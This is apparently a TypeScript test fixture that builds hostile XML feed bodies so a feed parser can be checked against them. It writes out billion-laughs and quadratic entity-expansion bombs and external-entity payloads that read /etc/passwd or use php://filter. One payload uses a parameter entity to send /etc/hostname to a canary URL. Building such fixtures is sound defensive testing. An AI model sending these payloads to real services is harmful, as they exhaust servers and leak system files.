import { type Bomb, EITHER, item, READ, rss } from './bomb.ts'

const doctype = (inside: string) => `<!DOCTYPE rss [${inside}]>`

const LAUGHS = Array.from({ length: 12 }, (_, n) =>
  n === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${n} "${`&l${n - 1};`.repeat(10)}">`,
).join('')
const LAUGH = rss(item('<title>&l11;</title><description>&l11;</description>'), doctype(LAUGHS))

/** @param canary an address that nothing may ask for */
export function xmlBombs(canary: string): Bomb[] {
  return [
    { name: 'a billion laughs', body: () => LAUGH, outcome: READ },
    { name: 'a billion laughs in UTF-16', body: () => utf16(LAUGH), outcome: EITHER },
    {
      name: 'laughs in an attribute',
      body: () => rss(item('<enclosure url="https://a.example/&l11;" type="&l11;"/>'), doctype(LAUGHS)),
      outcome: READ,
    },
    {
      name: 'laughs in Atom',
      body: () =>
        `${doctype(LAUGHS).replace('rss', 'feed')}<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&l11;</title><content>&l11;</content></entry></feed>`,
      outcome: READ,
    },
    {
      name: 'quadratic: 50 kB, 100,000 times',
      body: () =>
        rss(
          item(`<description>${'&a;'.repeat(100_000)}</description>`),
          doctype(`<!ENTITY a "${'a'.repeat(50_000)}">`),
        ),
      outcome: READ,
    },
    {
      name: 'entities that name each other',
      body: () => rss(item('<title>&a;</title>'), doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">')),
      outcome: READ,
    },
    {
      name: 'an entity that names itself',
      body: () => rss(item('<title>&a;</title>'), doctype('<!ENTITY a "&a;&a;">')),
      outcome: READ,
    },
    {
      name: '200,000 entities declared',
      body: () =>
        rss(
          item('<title>&e9;</title>'),
          doctype(Array.from({ length: 200_000 }, (_, n) => `<!ENTITY e${n} "x">`).join('')),
        ),
      outcome: READ,
    },
    {
      name: 'an entity name of a megabyte',
      body: () =>
        rss(
          item(`<title>&${'n'.repeat(1_000_000)};</title>`),
          doctype(`<!ENTITY ${'n'.repeat(1_000_000)} "x">`),
        ),
      outcome: READ,
    },
    ...[
      `file:///etc/passwd`,
      `${canary}/external`,
      'php://filter/resource=/etc/passwd',
      '\\\\127.0.0.1\\x',
    ].map((system): Bomb => ({
      name: `an external entity: ${system.replace(/^http.*/, 'http:')}`,
      body: () => rss(item('<title>&x;</title>'), doctype(`<!ENTITY x SYSTEM "${system}">`)),
      outcome: READ,
    })),
    {
      name: 'an external entity of a public name',
      body: () => rss(item('<title>&x;</title>'), doctype(`<!ENTITY x PUBLIC "-//X" "${canary}/public">`)),
      outcome: READ,
    },
    {
      name: 'a parameter entity from outside',
      body: () => rss(item('<title>x</title>'), doctype(`<!ENTITY % p SYSTEM "${canary}/parameter"> %p;`)),
      outcome: READ,
    },
    {
      name: 'a parameter entity that sends a file on',
      body: () =>
        rss(
          item('<title>x</title>'),
          doctype(
            `<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % s "<!ENTITY &#37; t SYSTEM '${canary}/?%f;'>">%s;%t;`,
          ),
        ),
      outcome: READ,
    },
    {
      name: 'a DTD from outside',
      body: () => rss(item('<title>x</title>'), `<!DOCTYPE rss SYSTEM "${canary}/dtd">`),
      outcome: READ,
    },
    {
      name: 'a style sheet, a schema and an XInclude from outside',
      body: () =>
        rss(
          item(
            `<title>x</title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary}/include" parse="text"/>`,
          ),
          `<?xml-stylesheet type="text/xsl" href="${canary}/style"?>`,
        ).replace(
          '<rss',
          `<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${canary}/schema"`,
        ),
      outcome: READ,
    },
    {
      name: 'a DOCTYPE that does not end',
      body: () => `<!DOCTYPE rss [${'<!ENTITY a "'.repeat(500_000)}`,
      outcome: EITHER,
    },
    {
      name: 'a million character references',
      body: () => rss(item(`<title>${'&#x41;'.repeat(1_000_000)}</title>`)),
      outcome: READ,
    },
    {
      name: 'references to no character',
      body: () => rss(item(`<title>${'&#x110000;&#0;&#xD800;'.repeat(100_000)}</title>`)),
      outcome: READ,
    },
    {
      name: 'a million ampersands',
      body: () => rss(item(`<title>${'&'.repeat(1_000_000)}</title>`)),
      outcome: READ,
    },
    {
      name: 'twelve times escaped',
      body: () =>
        rss(
          item(
            `<description>${'&amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;lt;'.repeat(50_000)}</description>`,
          ),
        ),
      outcome: READ,
    },
  ]
}

function utf16(text: string): Buffer {
  return Buffer.from(`\uFEFF${text.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')}`, 'utf16le')
}
